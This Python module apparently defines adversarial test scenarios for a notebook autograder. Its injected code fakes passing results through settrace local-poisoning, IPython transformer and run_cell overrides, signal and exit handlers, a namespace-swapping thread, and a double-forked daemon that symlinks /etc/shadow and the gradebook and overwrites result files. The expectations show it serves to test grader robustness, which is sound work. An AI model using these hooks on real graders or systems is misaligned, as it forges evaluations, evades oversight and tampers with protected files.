"""Attack corpus scenarios: Interpreter and IPython hooks.

Registered in order by build_corpus.py, which imports every scenario module.
"""

from __future__ import annotations

from .corpus_base import STUB, code, expect, full, scenario, tests_in, zero
from .corpus_context import files_of


# Interpreter and IPython hooks ----------------------------------------------------------------

@scenario("hook-settrace-poison-locals",
          "sys.settrace/threading.settrace hook that rewrites the locals of every non-student frame "
          "named passed/ok/success/verdict/score/failures/... (ctypes PyFrame_LocalsToFast), plus a "
          "sys.setprofile spy; conv_block not written",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("hooks",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "setup", '''
        import ctypes, sys, threading

        FORGED = {"passed": True, "ok": True, "success": True, "succeeded": True, "verdict": "pass",
                  "status": "ok", "failed": False, "failures": [], "errors": [], "problems": [],
                  "error": None, "message": None, "score": 15, "points": 15, "fraction": 1.0}
        SKIP = ("tensorflow", "keras", "numpy", "importlib", "zmq", "tornado", "asyncio", "traitlets",
                "jupyter_client", "ipykernel", "IPython", "threading", "logging", "h5py", "absl")
        MINE = sys._getframe().f_code.co_filename


        def _poison(frame, event, arg):
            if frame.f_code.co_filename == MINE:
                return None
            if frame.f_globals.get("__name__", "").startswith(SKIP):
                return None
            if event in ("line", "return"):
                local = frame.f_locals
                changed = False
                for name, value in FORGED.items():
                    if name in local:
                        try:
                            same = local[name] == value
                        except Exception:
                            same = False
                        if same is not True:
                            local[name] = value
                            changed = True
                if changed:
                    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            return _poison


        SEEN = []


        def _spy(frame, event, arg):
            if event == "call" and len(SEEN) < 20000:
                SEEN.append(f"{frame.f_globals.get('__name__')}.{frame.f_code.co_name}")


        sys.settrace(_poison)
        threading.settrace(_poison)
        sys.setprofile(_spy)
        threading.setprofile(_spy)
        print("trace and profile hooks installed")
    ''')
    return files_of({"02_encoder": nb})


@scenario("hook-ipython-transformers-events",
          "right after the setup cell (before any test): input transformers that turn any code naming a check, the judge, "
          "a probe or a graded function into print('passed'), an AST transformer that drops asserts, "
          "raises and check calls, pre/post_run_cell events that clear errors, set_custom_exc, "
          "showtraceback, sys.excepthook; nothing written",
          ("03_decoder",), expect({}, STUB, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("hooks",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "setup", '''
        import ast, sys
        from IPython import get_ipython

        shell = get_ipython()
        WORDS = ("check_", "judge", "probe", "grader", "assert", "transposed", "upsampling", "test_utils", "expected")


        def _rewrite(lines):
            text = "".join(lines)
            if "_rewrite" not in text and any(word in text for word in WORDS):
                return ["print('\\\\u2713 all tests passed')\\n"]
            return lines


        shell.input_transformers_cleanup.insert(0, _rewrite)
        shell.input_transformers_post.append(_rewrite)


        class _Neuter(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Raise(self, node):
                return ast.Pass()

            def visit_Call(self, node):
                self.generic_visit(node)
                name = getattr(node.func, "id", getattr(node.func, "attr", ""))
                if name.startswith(("check_", "_fail", "fail", "assert")):
                    return ast.Constant(value=None)
                return node


        shell.ast_transformers.append(_Neuter())


        def _pre_run(info=None):
            print("\\u2713 passed")


        def _post_run(result=None):
            if result is not None:
                result.error_in_exec = None
                result.error_before_exec = None


        shell.events.register("pre_run_cell", _pre_run)
        shell.events.register("post_run_cell", _post_run)


        def _swallow(self, etype, value, tb, tb_offset=None):
            print("\\u2713 passed")
            return []


        shell.set_custom_exc((BaseException,), _swallow)
        shell.showtraceback = lambda *args, **kwargs: print("\\u2713 passed")
        shell.showsyntaxerror = lambda *args, **kwargs: print("\\u2713 passed")
        sys.excepthook = lambda *args: print("\\u2713 passed")
        print("hooks installed")
    ''')
    return files_of({"03_decoder": nb})


@scenario("hook-replace-run-cell-and-execute",
          "right after the setup cell: get_ipython().run_cell / run_cell_async / run_ast_nodes / run_code "
          "and the kernel's do_execute and user_expressions replaced, so that any request naming "
          "conv_block, a check, the judge or a test runs print('passed') and every expression is True",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("hooks", "protocol"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "setup", '''
        import ast, inspect
        from IPython import get_ipython

        shell = get_ipython()
        FAKE = "print('\\\\u2713 conv_block: all layers match the reference')"
        WORDS = ("conv_block", "check", "judge", "probe", "test", "verdict")


        def _suspicious(text):
            return isinstance(text, str) and any(word in text for word in WORDS)


        _run_cell = shell.run_cell


        def run_cell(raw_cell, *args, **kwargs):
            return _run_cell(FAKE if _suspicious(raw_cell) else raw_cell, *args, **kwargs)


        _run_cell_async = shell.run_cell_async


        async def run_cell_async(raw_cell, *args, **kwargs):
            return await _run_cell_async(FAKE if _suspicious(raw_cell) else raw_cell, *args, **kwargs)


        _run_ast_nodes = shell.run_ast_nodes


        async def run_ast_nodes(nodelist, cell_name, *args, **kwargs):
            if any(_suspicious(ast.unparse(node)) for node in nodelist):
                nodelist = ast.parse(FAKE).body
            return await _run_ast_nodes(nodelist, cell_name, *args, **kwargs)


        _run_code = shell.run_code


        async def run_code(code_obj, result=None, *, async_=False):
            if any(_suspicious(name) for name in code_obj.co_names):
                print("\\u2713 passed")
                return False  # "no error"
            return await _run_code(code_obj, result, async_=async_)


        shell.run_cell = run_cell
        shell.run_cell_async = run_cell_async
        shell.run_ast_nodes = run_ast_nodes
        shell.run_code = run_code
        shell.user_expressions = lambda expressions: {
            key: {"status": "ok", "data": {"text/plain": "True"}, "metadata": {}} for key in expressions}

        kernel = shell.kernel
        _do_execute = kernel.do_execute


        async def do_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kwargs):
            if _suspicious(code):
                code = FAKE
            if user_expressions:
                user_expressions = {key: "True" for key in user_expressions}
            result = _do_execute(code, silent, store_history, user_expressions, allow_stdin, **kwargs)
            if inspect.isawaitable(result):
                result = await result
            return result


        kernel.do_execute = do_execute
        print("run_cell, run_code, do_execute replaced")
    ''')
    return files_of({"02_encoder": nb})


@scenario("hook-exit-signal-handlers",
          "03_decoder: atexit and signal handlers (INT, TERM, ALRM, USR1/2, HUP, QUIT, XCPU) print "
          "'passed'; os._exit and sys.exit replaced; the functions raise SystemExit(0), "
          "KeyboardInterrupt and GeneratorExit (not Exception) when called",
          ("03_decoder",), expect({}, r"not|fail|SystemExit|KeyboardInterrupt|GeneratorExit|interrupt|exit",
                                  targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("hooks",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code('''
        def transposed_output_size(n, f, s, p):
            raise SystemExit(0)
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            raise KeyboardInterrupt
    '''))
    ctx.replace_function(nb, "upsampling_block", code('''
        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            raise GeneratorExit
    '''))
    ctx.drop_calls(nb, "upsampling_block")
    ctx.insert_after(nb, "setup", '''
        import atexit, builtins, os, signal, sys


        def _passed(*args):
            print("\\u2713 all tests passed: 25/25", flush=True)


        atexit.register(_passed)
        for name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGUSR1", "SIGUSR2", "SIGHUP", "SIGQUIT", "SIGXCPU"):
            try:
                signal.signal(getattr(signal, name), lambda signum, frame: _passed())
            except (AttributeError, OSError, ValueError) as error:
                print(name, error)
        os._exit = lambda *args: _passed()
        sys.exit = lambda *args: _passed()
        builtins.exit = builtins.quit = sys.exit
    ''')
    return files_of({"03_decoder": nb})


@scenario("hook-thread-swaps-later",
          "01_data: nothing written; right after the setup cell a daemon thread (named like ipykernel's) "
          "waits a second, then keeps rebinding pair_files, decode_image, ... in the user namespace to "
          "the course library's functions",
          ("01_data",), expect({}, r"not|fail|library|delegat", targets=list(tests_in("01_data"))),
          tags=("hooks", "delegation"))
def _(ctx):
    nb = ctx.release("01_data")
    ctx.insert_after(nb, "setup", '''
        import sys, threading, time
        from IPython import get_ipython
        from course import data as _library

        _namespace = get_ipython().user_ns
        _NAMES = ("pair_files", "decode_image", "decode_mask", "resize_pair", "split_pairs")


        def _swap_later():
            time.sleep(1)  # after whatever looks at the namespace when the notebook ends
            while True:
                for name in _NAMES:
                    _namespace[name] = getattr(_library, name)
                    vars(sys.modules["__main__"])[name] = getattr(_library, name)
                time.sleep(0.005)


        threading.Thread(target=_swap_later, daemon=True, name="IOPub heartbeat").start()
    ''')
    return files_of({"01_data": nb})


@scenario("hook-daemon-fork",
          "conv_block double-forks a setsid daemon that lives on after the kernel: for 15 minutes it "
          "plants links (result.json, answer.npy, ... -> /etc/shadow, the gradebook) and overwrites "
          "every .json/.npy it can see in its folders with {'passed': true}; 03_decoder solved (a "
          "later kernel must not be disturbed)",
          ("02_encoder", "03_decoder"),
          expect({**zero("conv_block"), **full("03_decoder")}, r"not|fail|None", targets=["conv_block"],
                 canary=True, no_leak=["shadow", "hidden"], gradebook_unchanged=True), tags=("hooks", "resources"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", ctx.canary_code() + code('''

        GRADEBOOK = @@GRADEBOOK@@


        def _daemon(connection_file):
            import glob, json, os, time
            _corpus_canary("daemon")
            targets = ["/etc/shadow", GRADEBOOK, "/proc/1/environ"]
            folders = {os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"}
            if connection_file:
                folders.add(os.path.dirname(os.path.abspath(connection_file)))
            names = ("result.json", "reply.json", "answer.npy", "out.npy", "verdict.json", "response.json",
                     "values.npy", "feedback.html")
            forged = json.dumps({"passed": True, "score": 15, "status": "ok", "verdict": "pass"})
            end = time.time() + 900
            while time.time() < end:
                for folder in list(folders):
                    for index, name in enumerate(names):
                        path = os.path.join(folder, name)
                        try:
                            if not os.path.islink(path):
                                if os.path.exists(path):
                                    os.unlink(path)
                                os.symlink(targets[index % len(targets)], path)
                        except OSError:
                            pass
                    for path in glob.glob(os.path.join(folder, "*.json")) + glob.glob(os.path.join(folder, "*.npy")):
                        if os.path.islink(path) or path == connection_file:
                            continue
                        try:
                            with open(path, "w") as handle:
                                handle.write(forged)
                        except OSError:
                            pass
                time.sleep(0.2)


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            import os, time
            try:
                from ipykernel import get_connection_file
                connection_file = get_connection_file()
            except Exception:
                connection_file = None
            if os.fork() == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        _daemon(connection_file)
                finally:
                    os._exit(0)
            time.sleep(0.2)
            return None, None
    ''').replace("@@GRADEBOOK@@", repr(str(ctx.gradebook))))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb, "03_decoder": ctx.solved("03_decoder")})


